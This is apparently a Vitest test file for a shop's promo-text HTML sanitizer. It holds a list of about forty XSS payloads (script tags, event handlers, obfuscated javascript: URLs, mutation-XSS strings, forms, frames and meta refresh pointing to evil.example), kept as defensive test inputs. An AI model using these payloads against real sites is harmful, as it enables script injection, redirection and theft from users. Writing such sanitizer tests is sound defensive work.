import { expect, test } from 'vitest';

import { promoHtml } from './promo-html.ts';

test('[PRD-10] the markup of a promo text stays', () => {
  const text =
    '<p><b>Новый</b> <strong>урожай</strong>, <i>сладкий</i> и <em>сочный</em><br />сегодня</p><ul><li>раз</li></ul><ol><li>два</li></ol>';
  expect(promoHtml(text)).toBe(text);
});

test('[PRD-10] links lead to the web or into the shop; who leaves tells nothing of the shop', () => {
  expect(promoHtml('<a href="/category/frukty" target="_blank" class="x">все</a>')).toBe(
    '<a href="/category/frukty">все</a>',
  );
  expect(promoHtml('<a href="HTTPS://brand.example/?a=1&amp;b=2" rel="opener">сайт</a>')).toBe(
    '<a href="HTTPS://brand.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer">сайт</a>',
  );
});

/** Every one of them runs, loads or restyles something in a browser that shows it as it is. */
const attacks = [
  '<script>alert(1)</script>текст',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>текст',
  '<scr<script>ipt>alert(1)</scr</script>ipt>текст',
  '<img src=x onerror=alert(1)>текст',
  '<img src="x` `<script>alert(1)</script>"` `>текст',
  '<svg onload=alert(1)><script>alert(1)</script></svg>текст',
  '<svg><a xlink:href="javascript:alert(1)"><text>текст</text></a></svg>текст',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">текст</mi></math>текст',
  'текст<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>текст',
  '<iframe srcdoc="<script>alert(1)</script>">текст</iframe>текст',
  '<object data="evil.swf"><param name=movie value=evil.swf></object>текст',
  '<embed src="javascript:alert(1)">текст',
  '<style>body{display:none}</style>текст',
  '<p style="position:fixed;inset:0">текст</p>',
  '<b onmouseover="alert(1)">текст</b>',
  '<p/onclick=alert(1)>текст</p>',
  '<a href="javascript:alert(1)">текст</a>',
  '<a href="JaVaScRiPt:alert(1)">текст</a>',
  '<a href=" java\tscript:alert(1)">текст</a>',
  '<a href="java\nscript:alert(1)">текст</a>',
  '<a href="&#106;avascript&colon;alert(1)">текст</a>',
  '<a href="\u0001javascript:alert(1)">текст</a>',
  '<a href="vbscript:msgbox(1)">текст</a>',
  '<a href="data:text/html,<script>alert(1)</script>">текст</a>',
  '<a href="//evil.example">текст</a>',
  '<a href="/\\evil.example">текст</a>',
  '<a href="\\\\evil.example">текст</a>',
  '<a href="https:evil.example">текст</a>',
  '<form action="https://evil.example"><input name=a><button>текст</button></form>',
  '<base href="https://evil.example/">текст',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">текст',
  '<link rel=stylesheet href="https://evil.example/x.css">текст',
  '<video><source onerror="alert(1)"></video>текст',
  '<details open ontoggle=alert(1)>текст</details>',
  '<template><script>alert(1)</script></template>текст',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">текст</noscript>текст',
  '<!--><img src=x onerror=alert(1)>-->текст',
  '<![CDATA[<script>alert(1)</script>]]>текст',
  '<?xml-stylesheet href="javascript:alert(1)"?>текст',
  '<x-widget onclick=alert(1)>текст</x-widget>',
  '<p id=location name=cookie>текст</p>',
  '"><script>alert(1)</script>текст',
  '<b><i><a href="javascript:alert(1)" href="/ok">текст',
];

const ALLOWED =
  /^(?:[^<>]|<\/?(?:p|b|strong|i|em|ul|ol|li)>|<br \/>|<a>|<\/a>|<a href="(?:\/(?![/\\])[^"<>]*|https?:\/\/[^"<>]*" rel="nofollow noopener noreferrer)">)*$/i;

test.each(attacks)('[PRD-10] nothing of %s runs, and its words stay', (attack) => {
  const safe = promoHtml(attack) ?? '';
  expect(safe).toMatch(ALLOWED);
  expect(safe).not.toMatch(/evil\.example|javascript:|vbscript:/i);
  expect(safe).toContain('текст');
  expect(promoHtml(safe)).toBe(safe);
});

test('[PRD-10] a text without words is none', () => {
  for (const nothing of ['', ' ', '<p></p>', '<p>&nbsp;</p>', '<script>alert(1)</script>', '<img src=x>'])
    expect(promoHtml(nothing)).toBeNull();
});
